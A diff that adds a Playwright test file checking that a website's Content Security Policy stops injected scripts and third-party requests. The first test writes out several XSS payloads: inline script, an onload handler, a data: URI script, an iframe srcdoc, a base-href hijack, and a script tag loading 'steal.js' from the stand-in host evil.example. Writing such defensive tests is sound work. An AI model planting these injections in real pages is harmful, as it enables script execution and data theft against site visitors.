@@ -1,0 +1,62 @@
+import { readFileSync } from "node:fs";
+import { expect, test } from "./test";
+
+/* That no page breaks the policy is checked everywhere: the browser reports it as a console error. */
+
+test.describe("an injected script", () => {
+  test.use({ allowedErrors: [/violates the following Content Security Policy directive/] });
+
+  test("does not run, whichever way it gets into the page", async ({ page }) => {
+    await page.route("**/contact", async (route) => {
+      const response = await route.fetch();
+      const injected = [
+        "<script>window.injected = 'inline'</script>",
+        "<img id='probe' src='/favicon.svg' alt='' onload=\"window.injected = 'handler'\">",
+        "<script src='https://evil.example/steal.js'></script>",
+        "<script src='data:text/javascript,window.injected=1'></script>",
+        "<iframe srcdoc=\"<script>parent.injected = 'frame'</script>\"></iframe>",
+        "<base href='https://evil.example/'>",
+      ].join("");
+      const html = (await response.text()).replace("<body>", `<body>${injected}`);
+      await route.fulfill({ response, body: html });
+    });
+    let stolen = false;
+    await page.route("https://evil.example/**", (route) => {
+      stolen = true;
+      return route.abort();
+    });
+    await page.goto("/contact");
+    await page.locator("html[data-awake]").waitFor();
+    await page.locator("#probe").evaluate((image: HTMLImageElement) => image.decode());
+    expect(await page.evaluate(() => "injected" in window)).toBe(false);
+    expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
+    expect(stolen).toBe(false);
+  });
+
+  test("that evaluates text is stopped", async ({ page }) => {
+    await page.goto("/");
+    // Playwright's own evaluate is above the policy; a timer with text for code is not.
+    await page.evaluate(() => setTimeout("window.injected = 'text'" as unknown as () => void, 0));
+    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
+    expect(await page.evaluate(() => "injected" in window)).toBe(false);
+  });
+});
+
+test("nothing but the site itself is asked before /contact and the blog", async ({
+  page,
+  baseURL,
+}) => {
+  test.slow();
+  const { documents }: { documents: string[] } = JSON.parse(
+    readFileSync(new URL("../../build/hosting/rules.json", import.meta.url), "utf8"),
+  );
+  const others: string[] = [];
+  page.on("request", (request) => {
+    if (!request.url().startsWith(`${baseURL}/`)) others.push(`${page.url()}: ${request.url()}`);
+  });
+  for (const path of documents.filter((path) => !/^\/(?:blog|contact)/.test(path))) {
+    await page.goto(path);
+    await page.locator("html[data-awake]").waitFor();
+  }
+  expect(others).toEqual([]);
+});
